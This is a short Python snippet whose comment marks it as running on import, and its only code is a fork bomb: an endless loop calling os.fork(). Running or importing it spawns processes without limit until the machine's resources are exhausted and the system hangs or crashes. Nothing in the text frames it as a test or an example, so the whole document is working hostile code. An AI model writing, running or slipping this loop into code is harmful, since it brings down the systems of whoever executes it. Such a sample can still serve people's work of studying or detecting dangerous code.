# where: import
import os

while True:
    os.fork()
